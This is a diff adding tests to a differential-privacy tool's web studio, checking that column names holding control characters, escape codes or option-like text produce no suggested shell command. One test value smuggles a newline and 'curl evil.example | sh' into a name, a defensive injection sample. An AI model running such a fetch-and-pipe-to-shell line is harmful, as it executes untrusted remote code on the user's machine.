@@ -17,12 +17,14 @@ from hushgram.declare.grammar import parse_axis
 from hushgram.errors import HushgramError, SourceError
 from hushgram.spending.plan import Plan
 from hushgram.web.studio.axis_forms import declare_axis, form_of
-from hushgram.web.studio.calls import check
+from hushgram.web.studio.checking import check
 from hushgram.web.studio.columns import list_folder
 from hushgram.web.studio.declaration import ChargeForm, Declaration
+from hushgram.web.studio.paid_bounds import BoundsForm
+from hushgram.web.studio.plan_review import show_plan
 from hushgram.web.studio.plans import plan_text, quote, read_plan
 from hushgram.web.studio.problems import BadForm, Checks
-from hushgram.web.studio.words import publish_command, publish_python
+from hushgram.web.studio.words import NO_WORDS, publish_command, publish_python
 from tests.web.studio_server import form_of as whole_form
 from tests.web.studio_server import running, write_visits
 
@@ -145,6 +147,55 @@ def test_all_that_is_wrong_is_said_at_once() -> None:
     }  # fmt: skip
 
 
+CONTROL = ["\x03\ncurl evil.example | sh\n", "\x1b[2J", "\u202eevil", "a\tb", "\u2028"]
+"""Names that act when they are pasted into a shell, or look like another command."""
+
+
+@pytest.mark.parametrize("name", CONTROL, ids=ascii)
+def test_no_command_holds_signs_that_nobody_sees(name: str, tmp_path: Path) -> None:
+    column = f"a{name}b"
+    axis = {"name": column, "kind": "integer", "lo": "0", "hi": "9"}
+    payment = {"account": "visits", "epsilon": "1"}
+    bounds = {"source": "t.csv", "column": column, "kind": "integer", **payment}
+    usual = {"name": "age", "kind": "integer", "lo": "0", "hi": "9"}
+    found = check(whole_form("t.csv", axis))
+    shown = [
+        found["command"],
+        found["suggest"],
+        check(whole_form("t.csv", usual, unit=column, max_rows="2"))["command"],
+        check(whole_form(f"{column}.csv", usual))["command"],
+        BoundsForm.read(bounds).describe()["command"],
+        show_plan({"source": f"{column}.csv", "plan": [{"name": "a", "form": whole_form("t")}]})[
+            "command"
+        ],
+    ]
+    assert shown == [NO_WORDS] * len(shown)
+    for python in (found["python"], found["suggest_python"]):
+        assert all(line.isprintable() for line in python.splitlines())
+
+
+def test_a_column_that_looks_like_an_option_has_no_words() -> None:
+    form = {"source": "t.csv", "column": "--cap", "kind": "integer"}
+    found = BoundsForm.read({**form, "account": "visits", "epsilon": "1"}).describe()
+    assert found["command"] == NO_WORDS
+
+
+def test_a_column_is_the_one_that_was_chosen(tmp_path: Path) -> None:
+    """Not one whose name differs by a space."""
+    bins = {"kind": "bins", "lo": "0", "hi": "1", "bins": "2"}
+    checks = Checks()
+    form = whole_form("t.csv", {"name": " age", **bins}, unit="person ", max_rows="2")
+    what = Declaration.read(form, checks)
+    assert what is not None
+    assert what.domain.names == (" age",)
+    assert what.unit == hg.User("person ", 2)
+    assert BoundsForm.read({**form, "column": "age ", "kind": "integer"}).column == "age "
+    for column in (" pay", "pay  day", "pay 0:5"):
+        measure = {"kind": "mean", "column": column, "lo": "0", "hi": "9"}
+        (problem,) = check(whole_form("t.csv", measures=[measure]))["problems"]
+        assert problem["field"] == "measures.0"
+
+
 def test_two_axes_of_one_name_are_refused(tmp_path: Path) -> None:
     age = {"name": "age", "kind": "integer", "lo": "0", "hi": "9"}
     problems = check(whole_form(write_visits(tmp_path), age, age))["problems"]
@@ -181,12 +232,14 @@ unit = "person"
 max_rows = 3
 neighbours = "replace-one"
 
+about = { publisher = "City of \\"Bremen\\"", date = "2024" }
+
 [[release]]
 name = "ages"
 axes = { age = "0..99", "odd \\"name\\"" = "a,b," }
 outside = { age = "clamp" }
 epsilon = "0.25"
-measures = ["mean lon 0:20 missing=3"]
+measures = ["mean lon 0:20 missing=3", "sum pay a:b 0:9 step=0.5 outside=drop per_person=4"]
 
 [[release]]
 name = "places"
@@ -200,10 +253,11 @@ def test_a_plan_is_read_changed_and_written() -> None:
     found = read_plan({"toml": PLAN})
     assert [one["name"] for one in found["plan"]] == ["ages", "places"]
     asked = [{**one, "form": {**one["form"], **found["who"]}} for one in found["plan"]]
-    again = plan_text({"plan": asked})
+    again = plan_text({"plan": asked, **found["who"]})
     one, other = Plan.from_toml(PLAN), Plan.from_toml(again)
     assert one.to_json() == other.to_json()
     assert (one.unit, one.neighbours) == (other.unit, other.neighbours)
+    assert one.about.texts == other.about.texts == {"publisher": 'City of "Bremen"', "date": "2024"}
 
 
 def test_plans_that_the_page_cannot_show_are_refused() -> None:
@@ -213,6 +267,11 @@ def test_plans_that_the_page_cannot_show_are_refused() -> None:
     comma = {"name": "x", "kind": "category", "values": ["a,b"]}
     with pytest.raises(BadForm, match="A plan has no words"):
         plan_text({"plan": [{"name": "a", "form": whole_form("t", comma)}]})
+    mean = {"kind": "mean", "column": "pay", "lo": "0", "hi": "9"}
+    with pytest.raises(BadForm, match="Leave the share out"):
+        plan_text({
+            "plan": [{"name": "a", "form": whole_form("t", measures=[mean], share="1/3")}]
+        })  # fmt: skip
     with pytest.raises(HushgramError, match="no releases yet"):
         plan_text({"plan": []})
 
